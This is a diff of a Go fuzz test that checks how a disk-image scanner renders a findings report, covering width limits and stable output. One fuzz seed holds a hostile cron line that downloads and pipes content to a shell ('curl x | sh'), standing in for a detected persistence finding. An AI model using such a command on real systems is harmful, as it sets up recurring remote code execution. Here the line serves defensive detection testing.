@@ -37,27 +37,36 @@ func FuzzTableText(f *testing.F) {
 }
 
 // FuzzTable renders a report whose strings are fuzzed and checks the whole
-// table stays within the width.
+// table stays within the width and renders the same twice. The report is
+// the smallest that fills every section the strings reach (one volume,
+// finding, error and inventory item): each section costs a table, and the
+// sample report's dozen made the target run 20 inputs a second.
 func FuzzTable(f *testing.F) {
 	f.Add("/etc/cron.d/x", "*/5 * * * * curl x | sh", "cron.dl", "v@1", 100)
 	f.Add(strings.Repeat("\x1b", 50), strings.Repeat("長", 90), "", "", 60)
 	f.Fuzz(func(t *testing.T, path, match, rule, vol string, w int) {
 		w = MinWidth + abs(w)%100
-		r := sampleReport()
-		r.Findings[0].Evidence.Path = path
-		r.Findings[0].Evidence.Match = match
-		r.Findings[0].Rule = rule
-		r.Findings[0].Evidence.Volume = vol
-		r.Errors[0].Path = path
-		r.Errors[0].Error = match
-		r.Inventory[0].Summary = match
-		Finalize(r)
-		var buf bytes.Buffer
-		if err := WriteTable(&buf, r, WriteOptions{Inventory: true, Width: w}); err != nil {
-			t.Fatal(err)
+		render := func() string {
+			r := &Report{
+				Tool: "snapscan", Version: "fuzz", Image: "/evidence/" + vol + ".img",
+				Volumes:   []Volume{{Name: vol, Index: 1, Size: 1 << 20, Filesystem: "ext4", Label: rule, Scanned: true}},
+				Findings:  []Finding{{Rule: rule, Check: "cron", Title: match, Severity: Critical, Technique: "T1053.003", Evidence: Evidence{Volume: vol, Path: path, Line: 3, Match: match}}},
+				Errors:    []ScanError{{Stage: "cron", Volume: vol, Path: path, Error: match}},
+				Inventory: []InventoryItem{{Kind: "cron", Volume: vol, Path: path, Summary: match}},
+			}
+			Finalize(r)
+			var buf bytes.Buffer
+			if err := WriteTable(&buf, r, WriteOptions{Inventory: true, Width: w}); err != nil {
+				t.Fatal(err)
+			}
+			return buf.String()
 		}
-		if mw, line := maxLineWidth(buf.String()); mw > w {
+		out := render()
+		if mw, line := maxLineWidth(out); mw > w {
 			t.Fatalf("line is %d wide, limit %d: %q", mw, w, line)
+		}
+		if again := render(); again != out {
+			t.Fatalf("the same report rendered differently:\n%s\n---\n%s", out, again)
 		}
 	})
 }
